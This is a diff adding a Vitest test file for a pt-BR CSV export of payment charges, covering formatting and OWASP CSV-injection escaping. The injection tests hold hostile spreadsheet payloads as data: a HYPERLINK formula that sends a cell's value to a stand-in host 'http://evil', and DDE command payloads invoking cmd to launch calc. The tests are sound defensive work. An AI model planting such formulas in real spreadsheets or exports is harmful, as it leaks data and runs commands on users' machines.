@@ -1,0 +1,96 @@
+import { describe, expect, it } from 'vitest';
+import { chargesCsv, csvCell, type CsvCharge } from '../../../../shared/domain/charges-csv';
+
+const at = new Date(2026, 10, 21, 9, 5, 7).getTime();
+const base: CsvCharge = {
+  externalId: 'blc_a',
+  createdAt: at,
+  amountCents: 123456,
+  status: 'PAID',
+  flags: [],
+  demo: false,
+};
+const labels = {
+  status: (s: string) => ({ PAID: 'Pago', EXPIRED: 'Expirado', FAILED: 'Falhou' })[s] ?? s,
+  yes: 'Sim',
+  no: 'Não',
+};
+const lines = (csv: string) => csv.slice(1).split('\r\n');
+
+describe('CSV export (pt-BR spreadsheet conventions)', () => {
+  it('BOM, `;`, decimal comma; charge id, PSP id, date/time, amount, fee, net, status in words, late flag, masked document', () => {
+    const csv = chargesCsv(
+      [
+        {
+          ...base,
+          pspTransactionId: 'psp-1',
+          feeCents: 1222,
+          payerName: 'Ana',
+          payerDocumentMasked: '***.456.789-**',
+        },
+        {
+          ...base,
+          externalId: 'blc_b',
+          amountCents: 5,
+          status: 'EXPIRED',
+          flags: ['LATE_PAYMENT'],
+        },
+        { ...base, externalId: 'blc_c', amountCents: 700, status: 'FAILED' },
+      ],
+      labels,
+    );
+    expect(csv.charCodeAt(0)).toBe(0xfeff);
+    const l = lines(csv);
+    expect(l[0]).toBe(
+      'ID da cobrança;ID no PSP;Data/hora;Valor (R$);Taxa (R$);Líquido (R$);Situação;Pagamento tardio;DEMO;Descrição;Pagador;Documento',
+    );
+    expect(l[1]).toBe(
+      'blc_a;psp-1;21/11/2026 09:05:07;1234,56;12,22;1222,34;Pago;Não;Não;;Ana;***.456.789-**',
+    );
+    // A late payment is money received: it has a net, and the flag says Sim.
+    expect(l[2]).toBe('blc_b;;21/11/2026 09:05:07;0,05;;0,05;Expirado;Sim;Não;;;');
+    // Not received: no net.
+    expect(l[3]).toBe('blc_c;;21/11/2026 09:05:07;7,00;;;Falhou;Não;Não;;;');
+    expect(csv.endsWith('\r\n')).toBe(true);
+  });
+
+  it('quotes cells holding ; quotes or line breaks', () => {
+    expect(csvCell('Ana; "Aninha"')).toBe('"Ana; ""Aninha"""');
+    expect(csvCell('Pão\nleite')).toBe('"Pão\nleite"');
+    expect(csvCell('Pão e café')).toBe('Pão e café');
+  });
+});
+
+describe('CSV injection (OWASP): a cell a spreadsheet would run as a formula is made text', () => {
+  const cases: Array<[string, string]> = [
+    ['=HYPERLINK("http://evil/?"&A1,"clique")', `"'=HYPERLINK(""http://evil/?""&A1,""clique"")"`],
+    ['+5511912345678', `"'+5511912345678"`],
+    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
+    ["@SUM(1+1)*cmd|' /C calc'!A0", `"'@SUM(1+1)*cmd|' /C calc'!A0"`],
+    ['\t=1+1', `"'\t=1+1"`],
+    ['\r=1+1', `"'\r=1+1"`],
+  ];
+  it.each(cases)('%j → %j', (input, expected) => {
+    expect(csvCell(input)).toBe(expected);
+  });
+
+  it('in every text column of the export: description, payer name, ids', () => {
+    const csv = chargesCsv(
+      [
+        {
+          ...base,
+          description: '=HYPERLINK("http://evil")',
+          payerName: '@cmd',
+          pspTransactionId: '-1+1',
+        },
+      ],
+      labels,
+    );
+    const row = lines(csv)[1]!;
+    expect(row).toContain(`"'=HYPERLINK(""http://evil"")"`);
+    expect(row).toContain(`"'@cmd"`);
+    expect(row).toContain(`"'-1+1"`);
+    // No cell of the row begins with a formula character once split on the separator.
+    for (const cell of row.split(';')) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+  });
+});
